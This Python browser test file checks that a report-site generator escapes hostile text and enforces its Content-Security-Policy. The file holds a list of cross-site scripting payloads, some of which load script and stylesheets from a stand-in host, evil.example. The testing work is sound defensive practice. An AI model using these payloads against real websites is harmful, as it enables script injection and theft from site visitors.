"""Hostile text in every place where an article's or an author's words can stand: none of it runs."""

from __future__ import annotations

import copy
import json
from collections.abc import Collection, Iterable, Mapping, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from tests.browser.pages import outside, watch
from tests.unit.report.report_samples import SampleLibrary, code, display, figure, finding, markdown, notebook, table

from helpers.report import Actor, Article, Aside, Mark, SiteInfo, build_single, build_site, write_runs_index

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

_PAYLOADS = [
    "<script>document.title='pwned1'</script>",
    "</script><script>document.title='pwned2'</script>",
    "<img src=x onerror=\"document.title='pwned3'\">",
    "<svg/onload=document.title='pwned4'>",
    "javascript:document.title='pwned5'",
    "\" onmouseover=\"document.title='pwned6'\" autofocus onfocus=\"document.title='pwned6'\" x=\"",
    "{{ 7*7 }}{% raw %}${document.title='pwned7'}",
    "<a href=\"javascript:document.title='pwned8'\">press</a>",
    "-->]]><iframe srcdoc=\"<script>parent.document.title='pwned9'</script>\"></iframe>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/y.css>",
    "\u2028</ScRiPt ><sCrIpT src=https://evil.example/z.js>",
]  # fmt: skip


def _hostile_finding(text: str, number: int) -> list[dict[str, Any]]:
    """Cells in which one payload stands in every place of a finding where an article's or author's text can."""
    payload = finding(question=text, caveat=text, figure_alt=text, id=f"{number}-{text}")
    words = text.translate({ord(digit): None for digit in "0123456789"})
    payload["prose"] = [{"name": text}, {"text": words}, {"number": text, "evidence": "e1"}]
    payload["cards"] = [{"label": text, "value": text, "evidence": "e1", "note": text}]
    content = table(3)
    content["caption"] = text
    content["columns"].append({"key": "link", "label": text, "align": "left", "kind": "link"})
    link = {"text": text, "evidence": None, "sort": None}
    content["rows"] = [[*({**cell, "text": text, "sort": text} for cell in row), link] for row in content["rows"]]
    payload["table"] = content
    payload["sources"] = {f"{number}{name}": source for name, source in payload["sources"].items()}
    payload["evidence"] = {
        key: [{**span, "s": f"{number}{span['s']}"} for span in spans] for key, spans in payload["evidence"].items()
    }
    for source in payload["sources"].values():
        source.update(dict.fromkeys(("title", "outlet", "document", "url", "published", "text"), text))
    chart = copy.deepcopy(figure())
    chart["data"][0] |= {"name": text, "hovertext": [text] * 3, "text": [text] * 3, "mode": "markers+text", "hoverinfo": "text"}
    chart["layout"] |= {
        "title": {"text": text},
        "xaxis": {"title": {"text": text}},
        "annotations": [{"text": text, "x": "2024-05-01", "y": 2000, "hovertext": text}],
    }
    printed = {"output_type": "stream", "name": "stdout", "text": text}
    foreign = {"output_type": "display_data", "metadata": {}, "data": {"text/html": text, "text/plain": text}}
    return [markdown(f"## {text}\n\n{text}"), code(f"print({text!r})", number, printed, foreign, display(payload, chart))]


class _HostileLibrary(SampleLibrary):
    """Articles, actors and terms in which everything that a document can say is a payload."""

    def articles(self, ids: Collection[str], /) -> Mapping[str, Article]:
        everything = " ".join(_PAYLOADS)
        return {
            name: Article(
                article_id=name, title=everything, outlet=everything, published=everything,
                text=f"{everything}\n\n{everything}", body_start=len(everything) + 2, byline=everything,
                url=_PAYLOADS[4], dated=everything, document_id=everything,
                paths=tuple(_PAYLOADS), facts=tuple((text, text) for text in _PAYLOADS), copies=tuple(_PAYLOADS),
                marks=tuple(Mark(n, n + 9, "mention", text, text) for n, text in enumerate(_PAYLOADS)),
                asides=tuple(Aside(0, text, text, text) for text in _PAYLOADS),
            )
            for name in sorted(ids)
        }  # fmt: skip

    def actors(self, ids: Collection[str], /) -> Iterable[Actor]:
        return [Actor(text, text, text, tuple(sorted(ids))) for text in sorted(_PAYLOADS)]

    def terms(self, ids: Collection[str], /) -> Iterable[tuple[str, Sequence[str]]]:
        return [(text, sorted(ids)) for text in sorted({*_PAYLOADS, "__proto__", "constructor", "script"})]


def _hostile_parts(texts: list[str]) -> tuple[list[dict[str, Any]], SiteInfo, SampleLibrary]:
    cells = [cell for number, text in enumerate(texts, start=1) for cell in _hostile_finding(text, number)]
    everything = " ".join(texts)
    content = notebook("01_hostile", [markdown(f"# {everything}\n\n{everything}"), *cells])
    return [content], SiteInfo(everything, everything, "run-1", everything, everything), _HostileLibrary()


def _hostile_site(texts: list[str], out: Path) -> None:
    notebooks, info, library = _hostile_parts(texts)
    build_site(notebooks, info, out, library)


def _exercise(page: Page, sheet: str) -> None:
    """Open and touch everything that shows text, the rows of the charts' tables as well, which are made when they open."""
    page.evaluate("document.querySelectorAll('details').forEach(node => { node.open = true; })")
    if page.locator(f"{sheet} .chart-rows").count():
        page.wait_for_selector(f"{sheet} .chart-rows button")
    opened = page.evaluate(
        """async sheet => {
            const dialog = document.getElementById("evidence");
            const opened = [];
            for (const button of document.querySelectorAll(`${sheet} button.number[data-evidence]`)) {
                const finding = button.closest("[data-finding]").dataset.finding;
                await window.dossier.openPanel(finding, [button.dataset.evidence], button.textContent, button);
                opened.push(dialog.open && dialog.querySelectorAll(".source").length > 0);
                dialog.close();
            }
            return opened;
        }""",
        sheet,
    )
    assert all(opened)
    page.evaluate("document.querySelectorAll('button.sort').forEach(button => button.click())")
    for chart in page.locator(f"{sheet} [data-chart]").all()[:3]:
        chart.hover()


def _search(page: Page) -> None:
    """Look for what the payloads are made of, and open what is found."""
    page.keyboard.press("/")
    for words in ("script", "img", "__proto__", "pwned", "s"):
        page.locator("#search-input").fill(words)
        page.wait_for_timeout(150)
    page.wait_for_selector("#search-results .search-entry")
    page.locator("#search-results button.search-entry").first.evaluate("node => node.click()")
    page.wait_for_selector("#search-results a.search-entry")
    page.keyboard.press("Escape")


def _assert_calm(page: Page) -> None:
    page.wait_for_timeout(100)
    assert not page.title().startswith("pwned")
    forbidden = "a[href^='javascript' i], iframe, object, embed, main img, main script, main style, main link, dialog script"
    assert page.locator(forbidden).count() == 0
    handlers = "[...document.querySelectorAll('*')].filter(n => [...n.attributes].some(a => /^on/i.test(a.name))).length"
    assert page.evaluate(handlers) == 0


def test_no_payload_runs_from_any_place(browser, tmp_path):
    _hostile_site(_PAYLOADS, tmp_path)
    watched = watch(browser)
    for name in ("01_hostile.html", "index.html"):
        page = watched.open((tmp_path / name).as_uri())
        _exercise(page, ".sheet")
        _assert_calm(page)
    _search(page)
    _assert_calm(page)
    page = watched.open((tmp_path / "article.html").as_uri() + "#a1:0-40")
    page.wait_for_selector("#reader-body:not([hidden])")
    page.evaluate("document.querySelectorAll('.reading-go, .seg, .switch').forEach(node => node.click())")
    _assert_calm(page)
    assert watched.said == []
    assert outside(watched.asked, tmp_path) == []
    page.context.close()


def test_no_payload_runs_in_the_one_file(browser, tmp_path):
    path = tmp_path / "all.html"
    path.write_bytes(build_single(*_hostile_parts(_PAYLOADS)))
    watched = watch(browser)
    page = watched.open(path.as_uri() + "#01_hostile")
    _exercise(page, '[data-sheet="01_hostile"]')
    _search(page)
    page.evaluate("window.location.hash = '#article:a1:0-40'")
    page.wait_for_selector("#reader-body:not([hidden])")
    _assert_calm(page)
    assert watched.said == []
    assert outside(watched.asked, path) == []
    page.context.close()


def test_no_payload_runs_in_the_list_of_reports(browser, tmp_path):
    _hostile_site(["calm"], tmp_path / "run-1")
    everything = " ".join(_PAYLOADS)
    method = [{"extractor": everything, "version_before": 1, "version_after": 2, "articles": 3}]
    files = {
        "run.json": {"run_id": everything, "as_of": everything, "documents": {everything: {}}, "compared_with": "run-0"},
        "timings.json": {"finished_utc": everything},
        "differences.json": {"articles": 1, "changes": {everything: {"new": 2}}, "by_method": 1, "method": method},
    }
    for name, content in files.items():
        (tmp_path / "run-1" / name).write_text(json.dumps(content), encoding="utf-8")
    watched = watch(browser)
    page = watched.page
    page.goto(write_runs_index(tmp_path, everything, "08_briefing.html#changes").as_uri())
    assert page.locator(".run").count() == 1
    assert page.evaluate("getComputedStyle(document.querySelector('.run')).display") == "grid", "the report's style is found"
    _assert_calm(page)
    assert watched.said == []
    page.context.close()


@pytest.mark.parametrize("text", [_PAYLOADS[0], _PAYLOADS[2], _PAYLOADS[3]], ids=["script", "img", "svg"])
def test_the_detector_sees_a_payload_that_does_run(browser, tmp_path, text):
    """The same payloads on a page without the policy and without escaping: the test above would fail."""
    _hostile_site(["calm"], tmp_path)
    path = tmp_path / "01_hostile.html"
    html = path.read_text(encoding="utf-8").replace("Content-Security-Policy", "x-nothing").replace("</main>", f"{text}</main>")
    path.write_text(html, encoding="utf-8")
    watched = watch(browser)
    page = watched.open(path.as_uri())
    page.wait_for_function("document.title.startsWith('pwned')")
    page.context.close()


def test_the_policy_alone_stops_what_escaping_would_have_missed(browser, tmp_path):
    _hostile_site(["calm"], tmp_path)
    path = tmp_path / "01_hostile.html"
    path.write_text(path.read_text(encoding="utf-8").replace("</main>", "".join(_PAYLOADS[:4]) + "</main>"), encoding="utf-8")
    watched = watch(browser)
    page = watched.open(path.as_uri())
    page.wait_for_timeout(200)
    assert not page.title().startswith("pwned")
    assert any("Content Security Policy" in line for line in watched.said)
    page.context.close()
